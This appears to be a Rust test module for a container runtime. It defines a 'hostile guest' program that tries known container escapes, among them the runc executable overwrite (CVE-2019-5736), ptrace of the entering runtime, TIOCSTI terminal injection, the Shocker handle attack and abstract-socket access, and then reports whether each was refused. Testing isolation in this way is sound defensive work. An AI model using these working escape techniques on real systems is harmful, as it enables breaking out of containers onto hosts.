//! The hostile guest: this program, run inside a context, does what its argument names and prints what came of it.

use crate::harness::Context;
use std::ffi::CString;
use std::io;
use std::os::fd::AsRawFd;
use std::os::unix::process::CommandExt;
use std::path::Path;
use std::process::Command;

/// Where the program is in the context.
const PLACE: &str = "/attacker";

/// Puts the program into a context.
pub fn bring(context: &mut Context) {
    let own = std::env::current_exe().unwrap();
    context.bind(PLACE, own, &["bind", "ro"]);
}

/// The command line of an attack.
pub fn args(attack: &str) -> Vec<&str> {
    vec![PLACE, "--attack", attack]
}

/// The command line that runs `command` with a key in its session keyring: what a caller of the host's may have.
pub fn with_a_key(command: &Command) -> Command {
    let mut wrapped = Command::new(std::env::current_exe().unwrap());
    wrapped.args(["--attack", "with-a-key"]).arg(command.get_program()).args(command.get_args());
    wrapped.envs(command.get_envs().filter_map(|(name, value)| Some((name, value?))));
    wrapped
}

/// Runs an attack if this process was started for one.
pub fn main() -> Option<()> {
    let mut args = std::env::args().skip(1);
    if args.next()? != "--attack" {
        return None;
    }
    let attack = args.next()?;
    let mut more = args;
    let mut word = || more.next().expect("one more word");
    let result = match attack.as_str() {
        "overwrite-executables" => overwrite_executables(),
        "trace-newcomers" => trace_newcomers(),
        "type-into-the-terminal" => type_into_the_terminal(),
        "open-by-handle" => open_by_handle(),
        "algorithm-socket" => socket(libc::AF_ALG),
        "vsock-socket" => socket(libc::AF_VSOCK),
        "user-namespace" => unshare(libc::CLONE_NEWUSER),
        "keyring" => keyring(),
        "take-the-key" => take_the_key(),
        "lay-out-a-keyring" => lay_out_a_keyring(&word()),
        "with-a-key" => {
            add_key("caller").unwrap();
            let error = Command::new(word()).args(more).exec();
            panic!("not executed: {error}");
        }
        "start-others" => start_others(&word()),
        "nest-groups" => nest_groups(&word()),
        "nest-folders" => nest_folders(&word()),
        // SAFETY: asks for an id, and takes nothing.
        "be-root" => match unsafe { libc::geteuid() } {
            0 => Ok("root".into()),
            other => Err(io::Error::other(format!("still {other}"))),
        },
        "old-call" => old_call(&word()),
        "bpf" => bpf(),
        "userfaultfd" => userfaultfd(),
        "io-uring" => io_uring(),
        other => panic!("{other} is no attack"),
    };
    match result {
        Ok(words) => println!("done: {words}"),
        Err(error) => println!("refused: {error}"),
    }
    Some(())
}

/// A file of the guest's, and not the runtime's.
fn own_program(path: &Path) -> bool {
    path.starts_with("/bin") || path.starts_with(PLACE)
}

fn check(result: libc::c_long) -> io::Result<libc::c_long> {
    if result < 0 { Err(io::Error::last_os_error()) } else { Ok(result) }
}

/// A race is looked for at least this often.
const LOOKS: u32 = 10_000;

/// CVE-2019-5736: waits for processes to appear, and opens their executables for writing, again and again.
fn overwrite_executables() -> io::Result<String> {
    let (mut written, mut seen, mut looks) = (0, 0, 0);
    let mut held = Vec::new();
    while !Path::new("/stop").exists() || looks < LOOKS {
        looks += 1;
        for entry in std::fs::read_dir("/proc")?.flatten() {
            let Some(pid) = entry.file_name().to_str().and_then(|name| name.parse::<u32>().ok()) else {
                continue;
            };
            if pid <= 2 || pid == std::process::id() {
                continue;
            }
            if let Ok(file) = std::fs::File::open(format!("/proc/{pid}/exe")) {
                seen += 1;
                held.push(file);
            }
        }
        held.retain(|file| {
            let path = format!("/proc/self/fd/{}", file.as_raw_fd());
            let text = std::fs::read_link(&path).unwrap_or_default();
            // Only what is none of the guest's own files is worth the attack.
            if own_program(&text) {
                return false;
            }
            match std::fs::OpenOptions::new().write(true).open(&path) {
                Ok(_) => {
                    written += 1;
                    false
                }
                Err(error) => error.raw_os_error() == Some(libc::ETXTBSY),
            }
        });
    }
    println!("seen {seen}");
    if written > 0 {
        Ok(format!("{written} opened for writing"))
    } else {
        Err(io::Error::other("none was writable"))
    }
}

/// CVE-2016-9962: tries to trace whatever enters the context, and to open its descriptors.
fn trace_newcomers() -> io::Result<String> {
    let own = std::process::id();
    let (mut caught, mut looks) = (0, 0);
    while !Path::new("/stop").exists() || looks < LOOKS {
        looks += 1;
        for entry in std::fs::read_dir("/proc")?.flatten() {
            let Some(pid) = entry.file_name().to_str().and_then(|name| name.parse::<i32>().ok()) else {
                continue;
            };
            let command = std::fs::read_to_string(format!("/proc/{pid}/comm")).unwrap_or_default();
            // What is not the guest's own is the runtime's process on its way in.
            if pid as u32 == own || !command.starts_with("vctx") && !command.starts_with("runc") {
                continue;
            }
            let files = std::fs::read_dir(format!("/proc/{pid}/fd")).is_ok();
            // SAFETY: PTRACE_SEIZE takes a process id and numbers. It does not stop the process, so that one which was
            // the guest's own after all goes on.
            let attached = unsafe { libc::ptrace(libc::PTRACE_SEIZE, pid, 0, 0) } == 0;
            // It may have become the guest's own program meanwhile, which is anybody's to trace.
            let foreign = std::fs::read_link(format!("/proc/{pid}/exe")).is_ok_and(|exe| !own_program(&exe));
            if (attached || files) && foreign {
                caught += 1;
            }
        }
        // SAFETY: no status is asked for. A traced process ends for its parent only when its tracer has seen it end.
        while unsafe { libc::waitpid(-1, std::ptr::null_mut(), libc::__WALL | libc::WNOHANG) } > 0 {}
    }
    if caught > 0 { Ok(format!("{caught} caught")) } else { Err(io::Error::other("none was caught")) }
}

/// CVE-2017-5226: pushes a command into the terminal that the guest was given.
fn type_into_the_terminal() -> io::Result<String> {
    // Where the kernel refuses that to everybody (dev.tty.legacy_tiocsti), it is the terminal itself that counts.
    if std::fs::File::open("/dev/tty").is_ok() {
        return Ok("the caller's terminal is ours".into());
    }
    for byte in b"touch /tmp/typed\n" {
        // SAFETY: TIOCSTI reads one byte, which outlives the call.
        check(i64::from(unsafe { libc::ioctl(0, libc::TIOCSTI, byte) }))?;
    }
    Ok("typed".into())
}

/// Shocker: opens the host's root by a handle that it makes up.
fn open_by_handle() -> io::Result<String> {
    #[repr(C)]
    struct Handle {
        bytes: u32,
        kind: i32,
        inode: [u32; 2],
    }
    let mount = std::fs::File::open("/etc/resolv.conf").or_else(|_| std::fs::File::open("/"))?;
    let mut handle = Handle { bytes: 8, kind: 1, inode: [2, 0] };
    // SAFETY: the kernel reads a handle of eight bytes, which is live.
    let fd = unsafe {
        libc::syscall(libc::SYS_open_by_handle_at, mount.as_raw_fd(), &raw mut handle, libc::O_RDONLY)
    };
    check(fd).map(|_| "the host's root is open".into())
}

fn socket(family: i32) -> io::Result<String> {
    // SAFETY: numbers only.
    check(i64::from(unsafe { libc::socket(family, libc::SOCK_SEQPACKET, 0) })).map(|_| "a socket".into())
}

fn unshare(flags: i32) -> io::Result<String> {
    // SAFETY: this process has one thread, and ends after this.
    check(i64::from(unsafe { libc::unshare(flags) })).map(|_| "a namespace".into())
}

fn keyring() -> io::Result<String> {
    add_key("guest").map(|_| "a key".into())
}

const SESSION: i32 = -3;

fn add_key(content: &str) -> io::Result<libc::c_long> {
    let (kind, name) = (CString::new("user").unwrap(), CString::new("vctx-canary").unwrap());
    let (text, length) = (content.as_ptr(), content.len());
    // SAFETY: two C strings and a payload with its length, all live.
    check(unsafe { libc::syscall(libc::SYS_add_key, kind.as_ptr(), name.as_ptr(), text, length, SESSION) })
}

/// Looks in the session keyring for the key that somebody else has put there.
fn take_the_key() -> io::Result<String> {
    const SEARCH: i32 = 10;
    const READ: i32 = 11;
    let (kind, name) = (CString::new("user").unwrap(), CString::new("vctx-canary").unwrap());
    let mut content = [0u8; 64];
    // SAFETY: two live C strings.
    let key =
        check(unsafe { libc::syscall(libc::SYS_keyctl, SEARCH, SESSION, kind.as_ptr(), name.as_ptr(), 0) })?;
    // SAFETY: the kernel writes no more than the length that it is told.
    let length =
        check(unsafe { libc::syscall(libc::SYS_keyctl, READ, key, content.as_mut_ptr(), content.len()) })?;
    Ok(format!("the key of the {}", String::from_utf8_lossy(&content[..length as usize])))
}

/// Makes a keyring of the name that a runtime may give to the next context's, lets everybody join it, and waits for what
/// is put there.
fn lay_out_a_keyring(name: &str) -> io::Result<String> {
    const JOIN: i32 = 1;
    const PERMIT: i32 = 5;
    let name = CString::new(name).unwrap();
    // SAFETY: a live C string.
    check(unsafe { libc::syscall(libc::SYS_keyctl, JOIN, name.as_ptr()) })?;
    // SAFETY: numbers only.
    check(unsafe { libc::syscall(libc::SYS_keyctl, PERMIT, SESSION, 0x3f3f_3f3f) })?;
    std::fs::write("/ready", "")?;
    while !Path::new("/stop").exists() {
        std::thread::yield_now();
    }
    take_the_key()
}

/// CVE-2020-15257: goes for every socket that this network namespace shows, and sends what `start` would.
fn start_others(mark: &str) -> io::Result<String> {
    let mut reached = Vec::new();
    for line in std::fs::read_to_string("/proc/net/unix")?.lines() {
        let Some(name) = line.split_whitespace().nth(7).filter(|name| name.contains(mark)) else { continue };
        // SAFETY: numbers only.
        let socket =
            check(i64::from(unsafe { libc::socket(libc::AF_UNIX, libc::SOCK_SEQPACKET, 0) }))? as i32;
        // SAFETY: all bytes of the address may be zero.
        let mut address: libc::sockaddr_un = unsafe { std::mem::zeroed() };
        address.sun_family = libc::AF_UNIX as u16;
        let bytes = name.bytes().map(|byte| if byte == b'@' { 0 } else { byte });
        address.sun_path.iter_mut().zip(bytes).for_each(|(to, from)| *to = from as libc::c_char);
        let length = (2 + name.len()) as libc::socklen_t;
        // SAFETY: the address is live, and the length is that of its name, which was cut to fit.
        let connected = unsafe { libc::connect(socket, (&raw const address).cast(), length.min(110)) };
        // SAFETY: one live byte.
        if connected == 0 && unsafe { libc::send(socket, [3u8].as_ptr().cast(), 1, 0) } == 1 {
            reached.push(name.to_owned());
        }
    }
    if reached.is_empty() { Err(io::Error::other("none was reached")) } else { Ok(reached.join(", ")) }
}

/// Makes groups in groups, until no path can name the last.
fn nest_groups(place: &str) -> io::Result<String> {
    let name = "x".repeat(200);
    std::env::set_current_dir(place)?;
    for _ in 0..40 {
        std::fs::create_dir(&name)?;
        std::env::set_current_dir(&name)?;
    }
    Ok("40 groups deep".into())
}

/// Makes folders in folders, more than most processes may have open.
fn nest_folders(place: &str) -> io::Result<String> {
    std::env::set_current_dir(place)?;
    for _ in 0..2_000 {
        std::fs::create_dir("x")?;
        std::env::set_current_dir("x")?;
    }
    Ok("2000 folders deep".into())
}

/// mkdir(2) by the way that 32-bit programs take, which has numbers of its own.
#[cfg(target_arch = "x86_64")]
fn old_call(path: &str) -> io::Result<String> {
    const MKDIR: i32 = 39;
    let flags = libc::MAP_PRIVATE | libc::MAP_ANONYMOUS | libc::MAP_32BIT;
    // SAFETY: a new mapping, which nothing else knows; its address has 32 bits, as such a call takes.
    let place = unsafe { libc::mmap(std::ptr::null_mut(), 4096, 3, flags, -1, 0) };
    assert_ne!(place, libc::MAP_FAILED);
    // SAFETY: the mapping is larger than the path, and zeroed behind it.
    unsafe { std::ptr::copy_nonoverlapping(path.as_ptr(), place.cast(), path.len()) };
    let result: i32;
    // SAFETY: the call reads a C string; rbx, which the compiler keeps for itself, is put back.
    unsafe {
        std::arch::asm!(
            "xchg rbx, {path}", "int 0x80", "xchg rbx, {path}",
            path = inout(reg) place as u64 => _, inout("eax") MKDIR => result, in("ecx") 0o755,
        );
    }
    if result < 0 { Err(io::Error::from_raw_os_error(-result)) } else { Ok("a folder".into()) }
}

/// Other architectures have one way.
#[cfg(not(target_arch = "x86_64"))]
fn old_call(_: &str) -> io::Result<String> {
    Err(io::Error::from(io::ErrorKind::Unsupported))
}

fn bpf() -> io::Result<String> {
    // BPF_MAP_CREATE of an array with one element.
    let attributes: [u32; 16] = [2, 4, 4, 1, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0];
    // SAFETY: the kernel reads 64 bytes of a live array.
    check(unsafe { libc::syscall(libc::SYS_bpf, 0, attributes.as_ptr(), 64) }).map(|_| "a map".into())
}

fn userfaultfd() -> io::Result<String> {
    // SAFETY: numbers only.
    check(unsafe { libc::syscall(libc::SYS_userfaultfd, 0) }).map(|_| "a descriptor".into())
}

fn io_uring() -> io::Result<String> {
    let mut parameters = [0u32; 30];
    // SAFETY: the kernel reads and writes `struct io_uring_params`, 120 bytes, which are live.
    check(unsafe { libc::syscall(libc::SYS_io_uring_setup, 4, parameters.as_mut_ptr()) })
        .map(|_| "a ring".into())
}
